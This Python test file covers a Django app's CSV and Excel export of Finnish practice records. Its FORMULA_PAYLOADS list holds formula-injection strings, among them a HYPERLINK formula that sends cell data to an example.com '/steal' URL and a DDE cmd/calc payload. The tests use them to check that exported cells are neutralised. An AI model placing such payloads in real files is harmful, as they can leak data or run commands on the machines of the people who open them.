import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import load_workbook

from contacts.models import Contact
from organisations.models import Municipality, Region, WellbeingServicesCounty
from practices.models import (
    DevelopmentStage,
    Funder,
    Practice,
    PracticeContact,
    PracticeOrganisation,
    TargetGroup,
    Theme,
)
from practices.spreadsheets.export import (
    INSTRUCTIONS_TITLE,
    SHEET_TITLE,
    STATUS_WORDS,
    practice_rows,
    write_csv,
    write_xlsx,
)
from practices.spreadsheets.reading import HEADINGS, read_table
from practices.spreadsheets.values import (
    Resolver,
    parse_contacts,
    parse_start_year,
    parse_status,
    split_values,
    unescape_cell,
)
from tests.factories import (
    make_collection,
    make_contact,
    make_county,
    make_funder,
    make_municipality,
    make_organisation,
    make_practice,
    make_region,
    make_stage,
    make_target_group,
    make_theme,
)

KEYS = list(HEADINGS)
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://example.com/steal?d="&A1,"Klikkaa")',
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def column(row, key):
    return row[KEYS.index(key)]


def written(rows, file_format, **kwargs):
    file = io.BytesIO()
    if file_format == "csv":
        write_csv(rows, file)
    else:
        write_xlsx(rows, file, **kwargs)
    file.seek(0)
    return file


def read_back(file, file_format):
    return read_table(file, filename=f"kaytannot.{file_format}")


@pytest.fixture
def full_practice(db):
    """A practice with every exported field filled in, several values in multi-value ones."""
    region = make_region(name_fi="Uusimaa", code="01")
    county = make_county(name_fi="Länsi-Uudenmaan hyvinvointialue", region=region)
    owner = make_organisation(name_fi="Lohjan kaupunki")
    practice = make_practice(
        name_fi="Ikäihmisten asiakasraati",
        slug="ikaihmisten-asiakasraati",
        summary_fi="Ikäihmiset arvioivat palveluja.",
        need_and_goals_fi="Ensimmäinen kappale.\n\nToinen kappale; puolipisteellä.",
        target_change_fi="Parempi palvelu.",
        target_group_description_fi="Kotona asuvat ikäihmiset.",
        solution_fi='Raati kokoontuu "neljästi" vuodessa.',
        results_fi="Selkokieliset kirjeet.",
        evaluation_fi="Palautekysely.",
        adoption_conditions_fi="Vastuuhenkilö.",
        tips_for_adopters_fi="Kerro raadille tuloksista.",
        resources_and_costs_fi="Neljä tuntia kuukaudessa.",
        stage=make_stage(name_fi="Vakiintunut käytäntö"),
        funding_programme="RRP, P4, I1",
        collection=make_collection(name_fi="Tulevaisuuden sote-keskus"),
        start_year=2021,
        source_url="https://www.lohja.fi/asiakasraati",
        source_name="Lohjan verkkosivut",
        status=Practice.Status.IN_REVIEW,
        content_language=Practice.Language.SWEDISH,
        organisation=owner,
    )
    practice.target_groups.set(
        [make_target_group(name_fi="Ikääntyneet"), make_target_group(name_fi="Ammattilaiset")]
    )
    practice.themes.set([make_theme(name_fi="Osallisuus")])
    practice.funders.set(
        [make_funder(name_fi="Sosiaali- ja terveysministeriö", abbreviation="STM")]
    )
    practice.municipalities.set(
        [
            make_municipality(name_fi="Lohja", region=region, wellbeing_county=county),
            make_municipality(name_fi="Vihti", region=region, wellbeing_county=county),
        ]
    )
    practice.regions.set([region])
    practice.wellbeing_counties.set([county])
    PracticeOrganisation.objects.create(
        practice=practice,
        organisation=make_organisation(name_fi="Vihdin kunta"),
        role=PracticeOrganisation.Role.PARTNER,
        order=1,
    )
    PracticeContact.objects.create(
        practice=practice,
        contact=make_contact(
            name="Taru Rahkama", title_fi="Asiakkuuspäällikkö", email="taru.rahkama@lohja.fi"
        ),
        order=0,
    )
    PracticeContact.objects.create(
        practice=practice, contact=make_contact(name="Olli Ojala", email=""), order=1
    )
    return practice


# --- Rows ---------------------------------------------------------------------------------


def test_a_row_holds_every_field_in_finnish_under_its_heading(full_practice):
    [row] = practice_rows(Practice.objects.all())
    assert len(row) == len(HEADINGS)
    expected = {
        "identifier": "ikaihmisten-asiakasraati",
        "name": "Ikäihmisten asiakasraati",
        "need_and_goals": "Ensimmäinen kappale.\n\nToinen kappale; puolipisteellä.",
        "stage": "Vakiintunut käytäntö",
        "target_groups": "Ammattilaiset; Ikääntyneet",  # in the lists' order
        "themes": "Osallisuus",
        "funders": "Sosiaali- ja terveysministeriö",
        "funding_programme": "RRP, P4, I1",
        "organisations": "Lohjan kaupunki; Vihdin kunta",
        "municipalities": "Lohja; Vihti",
        "regions": "Uusimaa",
        "wellbeing_counties": "Länsi-Uudenmaan hyvinvointialue",
        "collection": "Tulevaisuuden sote-keskus",
        "contacts": ("Taru Rahkama (Asiakkuuspäällikkö) <taru.rahkama@lohja.fi>; Olli Ojala"),
        "start_year": "2021",
        "source": "https://www.lohja.fi/asiakasraati",
        "status": "Tarkastettavana",
        "content_language": "sv",
    }
    assert {key: column(row, key) for key in expected} == expected


def test_finnish_texts_are_exported_whatever_the_active_language(full_practice):
    full_practice.name_en = "Older people's customer panel"
    full_practice.save()
    with translation.override("en"):
        [row] = practice_rows(Practice.objects.all())
    assert column(row, "name") == "Ikäihmisten asiakasraati"


def test_empty_fields_give_empty_cells_and_the_source_name_stands_in_for_a_missing_url(db):
    make_practice(source_name="Innokylä", status=Practice.Status.DRAFT)
    [row] = practice_rows(Practice.objects.all())
    assert column(row, "source") == "Innokylä"
    assert column(row, "status") == "Luonnos"
    for key in ("stage", "themes", "contacts", "collection", "start_year", "organisations"):
        assert column(row, key) == ""


def test_only_contact_persons_are_exported_and_private_ones_can_be_left_out(full_practice):
    PracticeContact.objects.create(
        practice=full_practice,
        contact=make_contact(name="Asiantuntija Aho"),
        role=PracticeContact.Role.EXPERT,
    )
    Contact.objects.filter(name="Olli Ojala").update(is_public=False)

    [row] = practice_rows(Practice.objects.all())
    assert "Aho" not in column(row, "contacts")
    assert "Olli Ojala" in column(row, "contacts")

    [public_row] = practice_rows(Practice.objects.all(), only_public_contacts=True)
    assert column(public_row, "contacts") == (
        "Taru Rahkama (Asiakkuuspäällikkö) <taru.rahkama@lohja.fi>"
    )


def test_every_status_word_is_read_back_as_the_same_status():
    for status, word in STATUS_WORDS.items():
        assert parse_status(word) == (status, [])
    assert set(STATUS_WORDS) == set(Practice.Status)


def _practices_with_everything(count):
    stage, theme, group, funder = make_stage(), make_theme(), make_target_group(), make_funder()
    county = make_county()
    municipality = make_municipality(region=county.region, wellbeing_county=county)
    collection = make_collection()
    for _ in range(count):
        practice = make_practice(
            stage=stage, collection=collection, organisation=make_organisation()
        )
        practice.themes.set([theme])
        practice.target_groups.set([group])
        practice.funders.set([funder])
        practice.municipalities.set([municipality])
        practice.regions.set([county.region])
        practice.wellbeing_counties.set([county])
        PracticeContact.objects.create(practice=practice, contact=make_contact())


@pytest.mark.parametrize("count", [2, 20])
def test_exporting_takes_the_same_number_of_queries_for_any_number_of_practices(
    db, django_assert_num_queries, count
):
    _practices_with_everything(count)
    # The practices (with stage and collection), then one query for each of themes, target
    # groups, funders, municipalities, regions, counties, organisations and contacts.
    with django_assert_num_queries(9):
        rows = list(practice_rows(Practice.objects.for_listing()))
    assert len(rows) == count
    assert all(column(row, "contacts") for row in rows)


# --- Files: round trip and safety ---------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_practice_reads_back_cell_for_cell(full_practice, file_format):
    rows = list(practice_rows(Practice.objects.all()))

    table = read_back(written(rows, file_format), file_format)

    assert table.errors == []
    assert table.headings == list(HEADINGS.values())
    assert [row.cells for row in table.rows] == rows
    assert set(table.fields.values()) == set(HEADINGS)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_formulas_in_a_name_are_neutralised_and_read_back_exactly(db, file_format, payload):
    make_practice(name_fi=payload)
    rows = list(practice_rows(Practice.objects.all()))
    file = written(rows, file_format)

    if file_format == "xlsx":
        sheet = load_workbook(file)[SHEET_TITLE]
        cell = sheet.cell(row=2, column=KEYS.index("name") + 1)
        assert cell.data_type == "s"
        assert cell.value == "'" + payload
        file.seek(0)
    else:
        records = list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig")), delimiter=";"))
        assert records[1][KEYS.index("name")] == "'" + payload

    table = read_back(file, file_format)
    assert table.errors == []
    assert unescape_cell(column(table.rows[0].cells, "name")) == payload


def test_a_text_cell_is_never_stored_as_a_formula_even_unescaped(db):
    write_target = io.BytesIO()
    write_xlsx([["=1+1"] + [""] * (len(HEADINGS) - 1)], write_target)
    write_target.seek(0)
    cell = load_workbook(write_target)[SHEET_TITLE]["A2"]
    assert cell.data_type == "s"
    assert cell.value == "=1+1"


def test_csv_is_written_as_finnish_excel_reads_it(full_practice):
    rows = list(practice_rows(Practice.objects.all()))
    content = written(rows, "csv").getvalue()

    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    assert text.startswith("Tunniste;Nimi;Lyhyt kuvaus;")
    assert text.endswith("\r\n")
    lines = text.split("\r\n")
    assert len(lines) == 3  # headings, one practice, the empty string after the last CRLF
    # A multi-value cell holds ";" and a section holds quotation marks and line breaks:
    # each is quoted, quotation marks doubled.
    assert '"Ammattilaiset; Ikääntyneet"' in text
    assert '"Raati kokoontuu ""neljästi"" vuodessa."' in text
    assert '"Ensimmäinen kappale.\n\nToinen kappale; puolipisteellä."' in text


def test_xlsx_has_bold_frozen_headings(full_practice):
    rows = list(practice_rows(Practice.objects.all()))
    workbook = load_workbook(written(rows, "xlsx"))
    assert workbook.sheetnames == [SHEET_TITLE]
    sheet = workbook[SHEET_TITLE]
    headings = [cell.value for cell in sheet[1]]
    assert headings == list(HEADINGS.values())
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"


# --- Template -----------------------------------------------------------------------------


@pytest.fixture
def reference_data(db):
    call_command("load_reference_data", stdout=io.StringIO())


def test_the_templates_example_row_is_valid_against_the_reference_data(reference_data):
    workbook = load_workbook(written([], "xlsx", template=True))
    assert workbook.sheetnames == [SHEET_TITLE, INSTRUCTIONS_TITLE]
    workbook.close()

    table = read_back(written([], "xlsx", template=True), "xlsx")
    assert table.errors == []
    assert table.headings == list(HEADINGS.values())
    [(_, example)] = list(table.records())
    example = {key: unescape_cell(text) for key, text in example.items()}

    assert example["name"] and example["summary"]
    assert parse_status(example["status"]) == (Practice.Status.DRAFT, [])
    assert parse_start_year(example["start_year"]) == (2021, [])
    contacts, errors = parse_contacts(example["contacts"])
    assert errors == []
    assert [(c.name, c.title, c.email) for c in contacts] == [
        ("Taru Rahkama", "Asiakkuuspäällikkö", "taru.rahkama@lohja.fi")
    ]
    resolver = Resolver()
    stage, errors = resolver.resolve_one(DevelopmentStage, example["stage"])
    assert errors == [] and stage is not None
    for key, model in [
        ("target_groups", TargetGroup),
        ("themes", Theme),
        ("funders", Funder),
        ("municipalities", Municipality),
        ("regions", Region),
        ("wellbeing_counties", WellbeingServicesCounty),
    ]:
        found, errors = resolver.resolve_many(model, example[key])
        assert errors == [], key
        assert len(found) == len(split_values(example[key])) > 0, key
    assert example["content_language"] in Practice.Language.values


def test_the_instructions_sheet_explains_every_column(reference_data):
    workbook = load_workbook(written([], "xlsx", template=True))
    guide = workbook[INSTRUCTIONS_TITLE]
    lines = {row[0]: row[1] for row in guide.iter_rows(min_row=2, values_only=True)}

    assert list(lines) == list(HEADINGS.values())
    assert all(lines.values())
    for word in ("Luonnos", "Tarkastettavana", "Julkaistu", "Arkistoitu"):
        assert word in lines["Tila"]
    assert ";" in lines["Teemat"]
    assert "Kehitteillä" in lines["Kehittämisen vaihe"]  # the stages in the database
    assert "kuntanumerolla" in lines["Kunnat"]


# --- Command ------------------------------------------------------------------------------


def export(path, *args):
    out = io.StringIO()
    with translation.override("en"):
        call_command("export_practices", str(path), *args, stdout=out)
    return out.getvalue()


def exported_names(path):
    with path.open("rb") as file:
        table = read_table(file, filename=path.name)
    assert table.errors == []
    return sorted(record["name"] for _, record in table.records())


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_command_writes_every_practice_whatever_its_status(db, tmp_path, file_format):
    make_practice(name_fi="Julkaistu malli")
    make_practice(name_fi="Luonnosmalli", status=Practice.Status.DRAFT)
    path = tmp_path / f"kaytannot.{file_format}"

    output = export(path)

    assert exported_names(path) == ["Julkaistu malli", "Luonnosmalli"]
    assert f"Wrote 2 practices to {path}." in output


def test_the_format_option_wins_over_the_extension(db, tmp_path):
    make_practice(name_fi="Malli")
    path = tmp_path / "kaytannot.txt"
    export(path, "--format", "csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfTunniste;")


def test_the_command_honours_browse_filters_and_status(db, tmp_path):
    theme = make_theme(slug="mielenterveys")
    published = make_practice(name_fi="Julkaistu mielenterveysmalli")
    draft = make_practice(name_fi="Mielenterveysluonnos", status=Practice.Status.DRAFT)
    make_practice(name_fi="Muu malli")
    published.themes.add(theme)
    draft.themes.add(theme)
    path = tmp_path / "kaytannot.csv"

    export(path, "--filter", "theme=mielenterveys")
    assert exported_names(path) == ["Julkaistu mielenterveysmalli", "Mielenterveysluonnos"]

    export(path, "--filter", "theme=mielenterveys", "--status", "draft")
    assert exported_names(path) == ["Mielenterveysluonnos"]


def test_an_unknown_theme_is_an_error_naming_it(db, tmp_path):
    make_theme(slug="mielenterveys")
    path = tmp_path / "kaytannot.csv"
    with pytest.raises(CommandError, match="mielenterveyss"):
        export(path, "--filter", "theme=mielenterveys", "--filter", "theme=mielenterveyss")
    assert not path.exists()


@pytest.mark.parametrize("argument", ["colour=red", "theme"])
def test_an_unknown_or_malformed_filter_is_an_error(db, tmp_path, argument):
    with pytest.raises(CommandError):
        export(tmp_path / "kaytannot.csv", "--filter", argument)


def test_an_unknown_extension_without_format_is_an_error(db, tmp_path):
    with pytest.raises(CommandError, match="--format"):
        export(tmp_path / "kaytannot.ods")


def test_the_command_writes_the_template(reference_data, tmp_path):
    make_practice(name_fi="Olemassa oleva malli")
    path = tmp_path / "pohja.xlsx"

    export(path, "--template")

    workbook = load_workbook(path)
    assert workbook.sheetnames == [SHEET_TITLE, INSTRUCTIONS_TITLE]
    assert exported_names(path) == ["Ikäihmisten asiakasraati"]


def test_the_template_is_only_an_excel_workbook(db, tmp_path):
    with pytest.raises(CommandError, match=".xlsx"):
        export(tmp_path / "pohja.csv", "--template")
